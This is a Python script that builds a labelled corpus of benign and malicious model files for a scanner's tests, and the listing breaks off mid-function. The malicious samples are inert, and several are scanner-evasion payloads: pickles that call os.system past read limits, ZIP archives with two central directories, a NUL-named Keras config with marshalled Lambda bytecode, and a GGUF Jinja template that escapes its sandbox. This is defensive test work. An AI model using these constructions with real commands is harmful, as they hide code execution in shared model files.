    """LZ4 frames with header/block/content checksums (xxHash32), as lz4.frame writes them."""
    import lz4
    import lz4.frame
    import numpy as np

    weights = {"w": np.arange(20_000, dtype="f4").reshape(100, 200), "step": 3}
    plain = pickle.dumps(weights, protocol=4)
    ok = BENIGN / "lz4"
    ok.mkdir(parents=True, exist_ok=True)
    for name, kwargs in {
        "state_checksums.pkl.lz4": {"content_checksum": True, "block_checksum": True},
        "state_one_block.pkl.lz4": {
            "content_checksum": True,
            "block_size": lz4.frame.BLOCKSIZE_MAX4MB,
            "block_linked": False,
        },
    }.items():
        (ok / name).write_bytes(lz4.frame.compress(plain, **kwargs))  # type: ignore[arg-type]
        label(
            ok / name,
            "benign",
            "safe",
            f"lz4.frame.compress (lz4 {lz4.__version__}) with {sorted(kwargs)}",
        )
    evil = pickle.dumps({**weights, "hook": _Inert()}, protocol=4)
    frame = lz4.frame.compress(evil, content_checksum=True, block_checksum=True)
    bad = MALICIOUS / "lz4"
    bad.mkdir(parents=True, exist_ok=True)
    # magic, FLG, BD, [content size], HC, then blocks: size word, data, [block checksum]
    hc = 6 + (8 if frame[4] & 0x08 else 0)
    size = int.from_bytes(frame[hc + 1 : hc + 5], "little") & 0x7FFFFFFF
    block_sum = hc + 5 + size

    def flip(data: bytes, at: int, n: int) -> bytes:
        return data[:at] + bytes(b ^ 0xFF for b in data[at : at + n]) + data[at + n :]

    variants = {
        "payload_checksums.pkl.lz4": (frame, "payload in an LZ4 frame with valid checksums"),
        "payload_bad_content_checksum.pkl.lz4": (
            flip(frame, len(frame) - 4, 4),
            "content checksum corrupted: lz4.frame raises only at the end of the frame, after "
            "a streaming loader (joblib) has unpickled the payload",
        ),
        "payload_bad_header_checksum.pkl.lz4": (
            flip(frame, hc, 1),
            "frame header checksum corrupted (decoders that skip it still read the payload)",
        ),
        "payload_bad_block_checksum.pkl.lz4": (
            flip(frame, block_sum, 4),
            "block checksum corrupted (a scanner that trusts it stops; the lz4 tool refuses)",
        ),
    }
    for name, (data, source) in variants.items():
        put("malicious", f"lz4/{name}", data, "unsafe", source)


def review_nested_past_head() -> None:
    """Found in this project's review (2026-11-27): a payload after a 2 MB pad inside the
    bytes given to ``torch.storage._load_from_bytes`` (past the machine's 1 MiB head)."""
    inner = (
        pickle.dumps(0x1950A86A20F9469CFC6C, 2)  # a legacy torch.save: magic, protocol,
        + pickle.dumps(1001, 2)  # sys_info (padded), then the object
        + pickle.dumps({"protocol_version": 1001, "pad": "A" * 2_000_000}, 2)
        + call0("os", "system", "true")
        + b"."
    )
    outer = (
        b"\x80\x02"
        + glob0("torch.storage", "_load_from_bytes")
        + b"B"
        + struct.pack("<I", len(inner))
        + inner
        + b"\x85R."
    )
    put(
        "malicious",
        "bypass/nested_bytes_past_head.pkl.gz",
        gzip.compress(outer, mtime=0),
        "unsafe",
        "chainward review 2026-11-27: payload past the 1 MiB literal head of nested bytes",
    )


def review_budgets() -> None:
    """Found in this project's review (2026-11-27): a payload past the streams read."""
    payload = call0("os", "system", "true") + b"."
    # (the padded-budget case, 10.5 million opcodes, takes seconds per scan: it is a
    # unit test with a small budget instead, test_bypasses.py)
    put(
        "malicious",
        "bypass/stream_65.pkl",  # for a loader that calls pickle.load in a loop
        b"N." * 64 + payload,
        "unsafe",
        "chainward review 2026-11-27: payload in pickle stream 65",
    )


# ------------------------------------------------------- red team 2026-11-27 (held-out)

# why a sample's verdict is still wrong: the fix is in a file being changed elsewhere
# (pickle/vm.py, policy.py, profiles.py); test_corpus.py marks these xfail(strict=True)
_PENDING_PROFILE = "pending: profiles.py allowlist (red team 2026-11-27)"


def _pending(path: Path, reason: str) -> None:
    LABELS[str(path.relative_to(HERE))]["pending"] = reason


def red_team_benign() -> None:
    """Ordinary files from real libraries that the red team (2026-11-27) found misjudged."""
    import numpy as np
    import pandas as pd
    import torch
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    torch.manual_seed(0)
    rng = np.random.RandomState(0)

    def saved(obj: object, **kwargs: object) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, **kwargs)
        return buf.getvalue()

    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    put(
        "benign",
        "redteam/state_dict_legacy_p4.pt",
        saved(net.state_dict(), pickle_protocol=4, _use_new_zipfile_serialization=False),
        "safe",
        "torch.save(state_dict, pickle_protocol=4, _use_new_zipfile_serialization=False): "
        "the magic number is framed (was sniffed as a plain pickle)",
    )
    whole = put(
        "benign",
        "redteam/whole_module_legacy.pt",
        saved(net, _use_new_zipfile_serialization=False),
        "safe",
        "torch.save(nn.Sequential, _use_new_zipfile_serialization=False): each module class "
        "is a persistent id ('module', cls, file, source) that the loader calls",
    )
    _pending(
        whole,
        "pending: vm.py/policy.py must resolve torch's legacy persistent id "
        "('module', <global>, file, source) to the global (torch's persistent_load returns it)",
    )
    layer = torch.nn.TransformerEncoderLayer(8, 2, 16, batch_first=True)
    encoder = torch.nn.TransformerEncoder(layer, 1, enable_nested_tensor=False)
    _pending(
        put(
            "benign",
            "redteam/transformer_encoder_whole.pt",
            saved(encoder),
            "safe",
            "torch.save(nn.TransformerEncoder): the layer keeps torch.nn.functional.relu",
        ),
        _PENDING_PROFILE + ": torch.nn.functional activations as refs",
    )
    gen = torch.Generator().manual_seed(0)
    _pending(
        put(
            "benign",
            "redteam/generator_checkpoint.pt",
            saved({"model": net.state_dict(), "generator": gen, "epoch": 1}),
            "safe",
            "torch.save of a checkpoint holding a torch.Generator (torch._C.Generator(device) "
            "+ BUILD of its state)",
        ),
        _PENDING_PROFILE + ": calls torch._C.Generator (and torch.Generator)",
    )
    packed = torch.nn.utils.rnn.pack_padded_sequence(torch.randn(2, 3, 4), [3, 2], batch_first=True)
    _pending(
        put(
            "benign",
            "redteam/packed_sequence.pt",
            saved({"batch": packed}),
            "safe",
            "torch.save of an nn.utils.rnn.PackedSequence (a NamedTuple)",
        ),
        _PENDING_PROFILE + ": classes torch.nn.utils.rnn.PackedSequence",
    )
    quant = torch.ao.quantization.quantize_dynamic(
        torch.nn.Sequential(torch.nn.Linear(4, 4)), {torch.nn.Linear}, dtype=torch.qint8
    )
    _pending(
        put(
            "benign",
            "redteam/quantized_dynamic_whole.pt",
            saved(quant),
            "safe",
            "torch.save of a whole quantize_dynamic model (packed params pickle as "
            "torch.ScriptObject)",
        ),
        _PENDING_PROFILE + ": torch.ScriptObject (its __setstate__ is the C++ class's)",
    )

    x = rng.rand(40, 3) + 1
    y = x.sum(1)
    put(
        "benign",
        "redteam/mlp_protocol0.pkl",
        _protocol0_cut_in_number(x, y),
        "safe",
        "pickle.dumps(MLPRegressor, protocol=0): the 8 KB head ends inside a PUT line "
        "(was 'not a model format', skipped in folders)",
    )
    clip = make_pipeline(
        FunctionTransformer(np.clip, kw_args={"a_min": 0, "a_max": 5}), StandardScaler()
    ).fit(x)
    _pending(
        put(
            "benign",
            "redteam/function_transformer_clip.pkl",
            pickle.dumps(clip, protocol=5),
            "safe",
            "sklearn FunctionTransformer(np.clip) in a pipeline",
        ),
        _PENDING_PROFILE + ": numpy functions (numpy.clip) as refs",
    )
    _pending(
        put(
            "benign",
            "redteam/pandas_nat.pkl",
            pickle.dumps(
                {"last_seen": pd.NaT, "offset": pd.offsets.BusinessDay(2), "n": pd.NA},
                protocol=5,
            ),
            "safe",
            "pickle of pandas.NaT (pandas._libs.tslibs.nattype._nat_unpickle)",
        ),
        _PENDING_PROFILE + ": calls pandas._libs.tslibs.nattype._nat_unpickle",
    )
    stamps = pd.Series(pd.date_range("2024-01-01", periods=3, tz="dateutil/Europe/Paris"))
    _pending(
        put(
            "benign",
            "redteam/pandas_dateutil_tz.pkl",
            pickle.dumps(stamps, protocol=5),
            "safe",
            "pandas Series with a dateutil time zone (dateutil.tz._tzfile / tz.tzfile)",
        ),
        _PENDING_PROFILE + ": dateutil.tz._tzfile._unpickle and dateutil.tz._tzfile.tzfile",
    )
    try:
        from statsmodels.tsa.holtwinters import ExponentialSmoothing
    except ImportError:
        return
    ets = ExponentialSmoothing(np.arange(1, 30.0)).fit()
    _pending(
        put(
            "benign",
            "redteam/statsmodels_exponential_smoothing.pickle",
            pickle.dumps(ets, protocol=5),
            "safe",
            "statsmodels ExponentialSmoothing results (hold a "
            "scipy.optimize._lbfgsb_py.LbfgsInvHessProduct)",
        ),
        _PENDING_PROFILE + ": classes scipy.optimize._lbfgsb_py.LbfgsInvHessProduct",
    )


def _protocol0_cut_in_number(x: object, y: object) -> bytes:
    """pickle.dumps(MLPRegressor, protocol=0) whose first 8192 bytes end inside a number
    line (PUT, GET, INT, FLOAT): what a content sniffer with an 8 KB head sees cut."""
    import itertools
    import pickletools

    from sklearn.neural_network import MLPRegressor

    for width in range(8, 64):
        model = MLPRegressor(hidden_layer_sizes=(width,), max_iter=30, random_state=0)
        data = pickle.dumps(model.fit(x, y), protocol=0)
        ops = list(pickletools.genops(data))
        for (op, _, pos), (_, _, after) in itertools.pairwise(ops):
            if pos < 8192 < after - 1 and op.code in "pgIF":
                return data
    raise RuntimeError("no model width cuts the head inside a number line")


def red_team_malicious() -> None:
    """Inert attacks the red team (2026-11-27) found not judged unsafe."""
    import numpy as np

    payload = call0("os", "system", "true")
    x = np.random.RandomState(0).rand(40, 3) + 1
    text = _protocol0_cut_in_number(x, x.sum(1))
    put(
        "malicious",
        "redteam/protocol0_model_then_payload.pkl",
        text[:-1] + b"0" + payload + b".",
        "unsafe",
        "research: a protocol-0 model whose 8 KB head ends mid-line (not sniffed as a "
        "pickle, so skipped), then POP and os.system",
    )
    put(
        "malicious",
        "redteam/long_int_first.pkl",
        b"L" + b"9" * 100 + b"L\n0" + payload + b".",
        "unsafe",
        "research: a 100-digit protocol-0 LONG first (the sniffer took only short number "
        "lines), then os.system",
    )
    put(
        "malicious",
        "redteam/float_blank_padded.pkl",
        b"F" + b" " * 9000 + b"1\n0" + payload + b".",
        "unsafe",
        "research: FLOAT whose 9000 leading blanks run past the 8 KB head (float() strips "
        "them), then os.system",
    )
    handle = (
        s4("sklearn.callback._transport")
        + s4("ListenerHandle")
        + b"\x93("
        + s4("127.0.0.1")
        + b"J\x09\x00\x00\x00\x86C\x08attacker"
        + b"t\x81"
    )
    put(
        "malicious",
        "redteam/sklearn_scoring_monitor_connect.pkl",
        p4(
            s4("sklearn.callback._scoring_monitor")
            + s4("ScoringMonitor")
            + b"\x93)\x81}("
            + s4("scoring")
            + s4("accuracy")
            + s4("_log")
            + b"]"
            + s4("_listener_handle")
            + handle
            + b"ub"
        ),
        "unsafe",
        "research: sklearn 1.9 ScoringMonitor.__setstate__ calls multiprocessing Client() on "
        "the pickled address (connect-back) and opens a listener; built by NEWOBJ + BUILD only",
    )
    nested = call0("os", "system", "true") + b"."
    put(
        "malicious",
        "redteam/torch_datapipe_nested_pickle.pkl",
        p4(
            s4("torch.utils.data.datapipes.datapipe")
            + s4("_IterDataPipeSerializationWrapper")
            + b"\x93)\x81B"
            + struct.pack("<I", len(nested))
            + nested
            + b"\x89\x86b"
        ),
        "unsafe",
        "research: torch DataPipe serialization wrapper: __setstate__((bytes, False)) runs "
        "pickle.loads on the bytes (dill.loads with True); built by NEWOBJ + BUILD only",
    )
    _tf_data_ops()
    _statsmodels_formula()


def _tf_data_ops() -> None:
    """A SavedModel graph whose tf.data ops write or read any path, or reach a tf.data
    service: built field by field (the same bytes TensorFlow's protobuf writes)."""

    def field(number: int, data: bytes) -> bytes:
        return _varint(number << 3 | 2) + _varint(len(data)) + data

    saver = ["Placeholder", "Const", "SaveV2", "RestoreV2", "MergeV2Checkpoints"]
    for name, op, what in (
        ("dataset_to_tfrecord", "DatasetToTFRecord", "writes any file"),
        ("data_service", "DataServiceDatasetV4", "reads from a tf.data service (network)"),
    ):
        nodes = [*saver, "TensorSliceDataset", op]
        graph = b"".join(
            field(1, field(1, f"n{i}_{node}".encode()) + field(2, node.encode()))
            for i, node in enumerate(nodes)
        )
        meta = field(1, field(4, b"serve")) + field(2, graph)
        put(
            "malicious",
            f"redteam/tf_{name}/saved_model.pb",
            b"\x08\x01" + field(2, meta),
            "unsafe",
            f"research: a SavedModel graph with tf.data's {op} ({what})",
        )


def _statsmodels_formula() -> None:
    """statsmodels (0.14/0.15) ModelData.__setstate__ re-evaluates the pickled formula with
    patsy or formulaic, whose terms are Python expressions run by eval()."""
    try:
        import pandas as pd
        import statsmodels.formula.api as smf
    except ImportError:
        return
    import numpy as np

    rng = np.random.RandomState(0)
    frame = pd.DataFrame({"x": rng.rand(20) + 1, "y": rng.rand(20)})
    data = pickle.dumps(smf.ols("y ~ np.log(x)", frame).fit(), protocol=2)

    def text(value: str) -> bytes:  # BINUNICODE, what protocol 2 writes for str
        return b"X" + struct.pack("<I", len(value.encode())) + value.encode()

    old = text("y ~ np.log(x)")
    assert data.count(old) == 1, "the formula is pickled once and memoised"
    path = put(
        "malicious",
        "redteam/statsmodels_formula_eval.pickle",
        data.replace(old, text("y ~ np.log(x) + I(__import__('os').system('true'))")),
        "unsafe",
        "research: a real smf.ols(...).fit() pickle whose formula calls os.system: "
        "ModelData.__setstate__ (restore_model_spec) evaluates it on load",
    )
    _pending(
        path,
        "pending: policy.py must check the formula of a statsmodels.base.data state "
        "(restore_model_spec) as Python code",
    )


# ------------------------------------------------------------------ red team, second pass


def _raw_zip(
    members: list[tuple[str, bytes]], *, before_end: bytes = b"", raw_names: bool = False
) -> bytes:
    """A stored ZIP written field by field (zipfile refuses what some samples need: a NUL
    in a name, bytes between the central directory and the end record)."""
    import zlib

    out = bytearray()
    central = bytearray()
    for name, data in members:
        raw = name.encode("latin-1") if raw_names else name.encode()
        crc = zlib.crc32(data)
        head = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, len(data),
                           len(data), len(raw), 0)  # fmt: skip
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, crc,
                               len(data), len(data), len(raw), 0, 0, 0, 0, 0o100644 << 16,
                               len(out)) + raw  # fmt: skip
        out += head + raw + data
    cd_offset = len(out)
    out += central + before_end
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members),
                       len(central), cd_offset, 0)  # fmt: skip
    return bytes(out)


def _torch_members(obj: object) -> list[tuple[str, bytes]]:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    src = zipfile.ZipFile(buf)
    return [(item.filename, src.read(item.filename)) for item in src.infolist()]


def _two_directories(benign: list[tuple[str, bytes]], evil: list[tuple[str, bytes]]) -> bytes:
    """One archive, two central directories of the same size: zipfile reads the one right
    before the end record (taking the gap as a prefix), miniz (torch.load) the one at the
    recorded offset."""
    import zlib

    out = bytearray()
    records: list[list[tuple[bytes, int, int, int]]] = [[], []]
    filler = b"\x00" * 1024  # an unlisted first record: the benign offsets stay positive
    out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, zlib.crc32(filler),
                       len(filler), len(filler), 7, 0) + b"padding" + filler  # fmt: skip
    for which, members in enumerate((evil, benign)):
        for name, data in members:
            raw = name.encode()
            crc = zlib.crc32(data)
            records[which].append((raw, crc, len(data), len(out)))
            out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, len(data),
                               len(data), len(raw), 0) + raw + data  # fmt: skip

    def directory(which: int, shift: int) -> bytes:
        return b"".join(
            struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, crc, size, size,
                        len(raw), 0, 0, 0, 0, 0o100644 << 16, offset - shift) + raw
            for raw, crc, size, offset in records[which]
        )  # fmt: skip

    for_miniz = directory(0, 0)
    for_zipfile = directory(1, len(for_miniz))  # zipfile adds the "prefix" back
    assert len(for_miniz) == len(for_zipfile)
    offset = len(out)
    out += for_miniz + for_zipfile
    count = len(records[0])
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(for_miniz), offset, 0)
    return bytes(out)


def red_team2_benign() -> None:
    """Real files the second red-team pass (containers and non-pickle formats) misjudged,
    or that guard its fixes against false positives."""
    import keras

    keras.utils.set_random_seed(0)
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2, activation="relu")])
    folder = BENIGN / "redteam2/keras_model_folder"
    shutil.rmtree(folder, ignore_errors=True)
    keras.saving.save_model(model, str(folder), zipped=False)
    label(
        folder / "config.json",
        "benign",
        "safe",
        "keras.saving.save_model(zipped=False): a model folder (what load_model and hf:// "
        "read), its config.json now scanned",
    )
    try:
        import keras_hub
    except ImportError:  # keras-hub pulls TensorFlow in; the committed file stays
        return
    inputs = keras.Input((4, 8))
    hidden = keras_hub.layers.TransformerEncoder(intermediate_dim=8, num_heads=2)(inputs)
    outputs = keras_hub.layers.SinePositionEncoding()(hidden)
    path = BENIGN / "redteam2/keras_hub_encoder.keras"
    keras.Model(inputs, outputs).save(path)
    label(
        path,
        "benign",
        "safe",
        "keras-hub 0.32 TransformerEncoder + SinePositionEncoding: modules keras_hub.src.* "
        "(Keras imports classes from keras_hub/keras_nlp/keras_cv) were 'custom module'",
    )


def red_team2_malicious() -> None:
    """Inert attacks the second red-team pass found not judged unsafe."""
    import numpy as np

    payload = call0("os", "system", "true") + b"."
    weights = {"w": __import__("torch").ones(2)}
    evil = [(n, payload if n.endswith("/data.pkl") else d) for n, d in _torch_members(weights)]
    put(
        "malicious",
        "redteam2/torch_gap_before_end_record.pt",
        _raw_zip(evil, before_end=b"\x00" * 64),
        "unsafe",
        "research: 64 bytes between the central directory and the end record; miniz "
        "(torch.load) reads the directory at its recorded offset, zipfile-style readers "
        "found no directory (scanned as empty)",
    )
    put(
        "malicious",
        "redteam2/torch_two_directories.pt",
        _two_directories(_torch_members(weights), evil),
        "unsafe",
        "research: two central directories; zipfile (and the scan) read a benign state "
        "dict, torch.load the one at the recorded offset, whose data.pkl runs os.system",
    )
    _red_team2_torchscript()
    _red_team2_keras()
    _red_team2_gguf()
    for name, descr in (("object", "object"), ("comma", "i4,O"), ("subarray", "(1,)O")):
        header = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': (1,), }}"
        header += " " * (-(10 + len(header) + 1) % 64) + "\n"
        put(
            "malicious",
            f"redteam2/npy_descr_{name}.npy",
            b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload,
            "unsafe",
            f"research: .npy descr {descr!r} is an object dtype for numpy.dtype (pickle.load "
            "with allow_pickle=True); only a leading 'O' was taken for one",
        )
        assert np.dtype(descr).hasobject


def _red_team2_torchscript() -> None:
    import torch

    class ReadsAFile(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            data = torch.from_file("/nonexistent/id_rsa", False, 4, dtype=torch.uint8)
            return x + data.sum()

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(ReadsAFile()), buf)
    src = zipfile.ZipFile(buf)
    members = [(item.filename, src.read(item.filename)) for item in src.infolist()]

    def renamed(rename: object) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as dst:
            for name, data in members:
                dst.writestr(rename(name), data)  # type: ignore[operator]
        return out.getvalue()

    put(
        "malicious",
        "redteam2/torchscript_code_upper_suffix.pt",
        renamed(lambda n: n[:-3] + ".PY" if n.endswith(".py") else n),
        "unsafe",
        "research: TorchScript code as code/__torch__.PY; torch.jit.load finds records with "
        "miniz's case-insensitive lookup, the scan took only '.py' as code (aten::from_file)",
    )
    put(
        "malicious",
        "redteam2/torchscript_names_upper.pt",
        renamed(lambda n: n.split("/", 1)[0] + "/" + n.split("/", 1)[1].upper()),
        "unsafe",
        "research: every record name upper-cased (DATA.PKL, CONSTANTS.PKL, CODE/...); "
        "torch.jit.load reads it, the scan saw a plain zip",
    )


def _red_team2_keras() -> None:
    import base64
    import marshal

    benign = zipfile.ZipFile(io.BytesIO((BENIGN / "keras/dense.keras").read_bytes()))
    files = {item.filename: benign.read(item.filename) for item in benign.infolist()}
    config = json.loads(files["config.json"])
    code = compile("lambda x: __import__('os').system('true') or x", "<lambda>", "eval")
    config["config"]["layers"].append(
        {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "lam",
                "function": {
                    "class_name": "__lambda__",
                    "config": {
                        "code": base64.b64encode(marshal.dumps(code.co_consts[0])).decode(),
                        "defaults": None,
                        "closure": None,
                    },
                },
                "arguments": {},
            },
            "registered_name": None,
        }
    )
    evil = json.dumps(config).encode()
    put(
        "malicious",
        "redteam2/keras_config_nul_name.keras",
        _raw_zip(
            [
                ("metadata.json", files["metadata.json"]),
                ("config.json\x00", evil),
                ("model.weights.h5", files["model.weights.h5"]),
            ],
            raw_names=True,
        ),
        "unsafe",
        "research: member 'config.json\\0'; zipfile (Keras load_model) cuts names at NUL and "
        "reads it as config.json, the scan looked for the exact name (Lambda bytecode)",
    )
    put(
        "malicious",
        "redteam2/keras_config_only.keras",
        _raw_zip([("config.json", evil)]),
        "unsafe",
        "research: a .keras with config.json alone; load_model builds the model (running the "
        "Lambda) before it looks for weights, the scan wanted metadata.json or weights too",
    )
    archive = _raw_zip([("metadata.json", files["metadata.json"]), ("config.json", evil)])
    put(
        "malicious",
        "redteam2/keras_text_prefix.keras",
        b"#!/bin/sh\n# model card: see README\n" * 40 + archive,
        "unsafe",
        "research: a .keras behind 1.4 KB of text with no NUL byte; zipfile (Keras "
        "load_model) finds the archive from the end, the sniffer wanted a binary head "
        "(saferpickle PR #46 is the PK\\x07\\x08 variant)",
    )
    put(
        "malicious",
        "redteam2/keras_model_folder/config.json",
        evil,
        "unsafe",
        "research: a Keras model folder (keras.saving.load_model(folder), hf:// repos) whose "
        "config.json carries a Lambda; JSON files were not scanned",
    )
    (MALICIOUS / "redteam2/keras_model_folder/metadata.json").write_bytes(files["metadata.json"])


def _red_team2_gguf() -> None:
    import gguf
    import numpy as np

    path = MALICIOUS / "redteam2/gguf_template_built_names.gguf"
    path.parent.mkdir(parents=True, exist_ok=True)
    template = (
        "{% set u = '_' * 2 %}{% set cls = u ~ 'class' ~ u %}{% set base = u ~ 'base' ~ u %}"
        "{% set subs = u ~ 'subclasses' ~ u %}{% set nm = u ~ 'name' ~ u %}"
        "{% set init = u ~ 'init' ~ u %}{% set glb = u ~ 'globals' ~ u %}"
        "{% for c in ()[cls][base][subs]() %}{% if c[nm] == 'catch_warnings' %}"
        "{{ c[init][glb]['sys'].modules['os'].system('true') }}{% endif %}{% endfor %}"
        "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n"
        "{% endfor %}"
    )
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_chat_template(template)
    writer.add_tensor("w", np.ones(2, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    label(
        path,
        "malicious",
        "unsafe",
        "CVE-2024-34359 shape with every dunder built at run time ('_' * 2 ~ 'class' in "
        "{% set %} variables, used as item keys): no dunder string, attribute or attr filter",
    )


def red_team3_benign() -> None:
    """Whole-object pickles of real libraries the third red-team pass found misjudged:
    torch training state, Hugging Face and diffusers models saved whole, scipy.stats
    search spaces, numpy polynomials."""
    import numpy as np
    import torch

    torch.manual_seed(0)

    def saved(obj: object) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf)
        return buf.getvalue()

    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    scaler = torch.amp.GradScaler("cpu")
    put(
        "benign",
        "redteam3/amp_grad_scaler_checkpoint.pt",
        saved({"model": net.state_dict(), "scaler": scaler, "epoch": 3}),
        "safe",
        "torch.save of a checkpoint holding a whole torch.amp.GradScaler (its per-optimizer "
        "state is a defaultdict of grad_scaler._refresh_per_optimizer_state)",
    )
    put(
        "benign",
        "redteam3/spectral_norm_whole.pt",
        saved(torch.nn.utils.spectral_norm(torch.nn.Linear(3, 3))),
        "safe",
        "torch.save of a module after torch.nn.utils.spectral_norm (SpectralNorm hook objects)",
    )
    put(
        "benign",
        "redteam3/weight_norm_whole.pt",
        saved(torch.nn.utils.weight_norm(torch.nn.Linear(3, 3))),
        "safe",
        "torch.save of a module after the classic torch.nn.utils.weight_norm (WeightNorm hook)",
    )
    for mode in ("triangular", "exp_range"):
        opt = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
        sched = torch.optim.lr_scheduler.CyclicLR(opt, 0.01, 0.1, mode=mode)
        opt.step()
        sched.step()
        put(
            "benign",
            f"redteam3/cyclic_lr_{mode}_whole.pt",
            saved(sched),
            "safe",
            f"torch.save of a whole CyclicLR(mode={mode!r}): its scale function is a static "
            "method pickled as getattr(CyclicLR, '_..._scale_fn')"
            + (" inside functools.partial" if mode == "exp_range" else ""),
        )
    _red_team3_scipy_search()
    put(
        "benign",
        "redteam3/numpy_polynomials.pkl",
        pickle.dumps(
            {"fit": np.polynomial.Polynomial.fit([0, 1, 2], [1, 3, 7], 2),
             "basis": np.polynomial.Chebyshev([1, 0.5]),
             "legendre": np.polynomial.Legendre([0, 1])},
            protocol=5,
        ),
        "safe",
        "pickle of numpy.polynomial Polynomial/Chebyshev/Legendre objects",
    )  # fmt: skip
    _red_team3_transformers()
    _red_team3_diffusers()


def _red_team3_scipy_search() -> None:
    import numpy as np
    from scipy.stats import loguniform, randint
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import RandomizedSearchCV

    rng = np.random.RandomState(0)
    x = rng.rand(60, 4)
    y = (x[:, 0] > 0.5).astype(int)
    space = {"C": loguniform(1e-3, 1), "max_iter": randint(50, 100)}
    search = RandomizedSearchCV(LogisticRegression(), space, n_iter=2, cv=3, random_state=0)
    put(
        "benign",
        "redteam3/randomized_search_scipy_dists.pkl",
        pickle.dumps(search.fit(x, y), protocol=5),
        "safe",
        "pickle of a fitted RandomizedSearchCV over scipy.stats randint/loguniform: the "
        "discrete distribution keeps numpy.vectorize(self._entropy), pickled as "
        "getattr(<randint_gen>, '_entropy')",
    )


def _red_team3_transformers() -> None:
    try:
        import torch
        import transformers
    except ImportError:  # the committed files stay
        return
    torch.manual_seed(0)
    small = {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2,
             "intermediate_size": 32, "vocab_size": 64, "max_position_embeddings": 32}  # fmt: skip
    bert = transformers.BertForSequenceClassification(transformers.BertConfig(**small))
    gpt2 = transformers.GPT2LMHeadModel(
        transformers.GPT2Config(n_embd=16, n_layer=1, n_head=2, vocab_size=64, n_positions=32)
    )
    for name, model in (("bert", bert), ("gpt2", gpt2)):
        buf = io.BytesIO()
        torch.save(model, buf)
        put(
            "benign",
            f"redteam3/hf_{name}_whole.pt",
            buf.getvalue(),
            "safe",
            f"torch.save(model) of a whole tiny transformers {type(model).__name__} "
            "(modeling classes rebuilt with __new__; GELUActivation keeps torch._C._nn.gelu)",
        )
    with torch.no_grad():
        output = bert(input_ids=torch.tensor([[1, 2, 3]]))
    buf = io.BytesIO()
    torch.save({"output": output}, buf)
    put(
        "benign",
        "redteam3/hf_model_output.pt",
        buf.getvalue(),
        "safe",
        "torch.save of a transformers SequenceClassifierOutput (a ModelOutput dataclass)",
    )


def _red_team3_diffusers() -> None:
    try:
        import diffusers
        import torch
    except ImportError:  # the committed files stay
        return
    torch.manual_seed(0)
    unet = diffusers.UNet2DModel(
        sample_size=8, in_channels=3, out_channels=3, layers_per_block=1,
        block_out_channels=(4, 8), down_block_types=("DownBlock2D", "DownBlock2D"),
        up_block_types=("UpBlock2D", "UpBlock2D"), norm_num_groups=2,
    )  # fmt: skip
    for name, obj in (
        ("unet2d_whole", unet),
        ("ddpm_scheduler_whole", diffusers.DDPMScheduler(num_train_timesteps=10)),
    ):
        buf = io.BytesIO()
        torch.save(obj, buf)
        put(
            "benign",
            f"redteam3/diffusers_{name}.pt",
            buf.getvalue(),
            "safe",
            f"torch.save of a whole diffusers {type(obj).__name__} (config is a FrozenDict "
            "called with no arguments)",
        )


def red_team3_malicious() -> None:
    """Inert attacks the third red-team pass found not judged unsafe."""

    def stack(module: str, name: str) -> bytes:
        return s4(module) + s4(name) + b"\x93"

    put(
        "malicious",
        "redteam3/joblib_memorized_result_mkdir.pkl",
        p4(
            stack("joblib.memory", "MemorizedResult")
            + b"("
            + s4("/nonexistent/.ssh/authorized_keys")
            + b"("
            + s4("f")
            + s4("0")
            + b"ltR"
        ),
        "unsafe",
        "research: joblib MemorizedResult(location, call_id) is what its __reduce__ writes; "
        "its constructor creates the location directory and writes a .gitignore there "
        "(FileSystemStoreBackend.configure), then reads metadata.json under it",
    )
    put(
        "malicious",
        "redteam3/joblib_async_memorized_func.pkl",
        p4(
            stack("joblib.memory", "AsyncMemorizedFunc")
            + b"("
            + stack("numpy", "add")
            + s4("/nonexistent/cache")
            + b"tR"
        ),
        "unsafe",
        "research: joblib AsyncMemorizedFunc(func, location) (outside the MemorizedFunc "
        "exclusion by name) creates the cache directory, a .gitignore and the function's "
        "folder at the pickled location when constructed",
    )
    put(
        "malicious",
        "redteam3/diffusers_frozendict_setstate.pkl",
        p4(
            stack("diffusers.configuration_utils", "FrozenDict")
            + b"(}"
            + s4("__setstate__")
            + stack("posix", "system")
            + b"stR"
            + s4("true")
            + b"b"
        ),
        "unsafe",
        "research: diffusers FrozenDict(mapping) setattr()s every key, so a '__setstate__' "
        "key makes the following BUILD call os.system (its own pickles pass no arguments)",
    )
    put(
        "malicious",
        "redteam3/hf_model_class_called.pkl",
        p4(
            stack("transformers.models.timm_backbone.modeling_timm_backbone", "TimmBackbone")
            + b"("
            + stack("transformers.models.timm_backbone.configuration_timm_backbone",
                    "TimmBackboneConfig")
            + b"("
            + s4("resnet18")
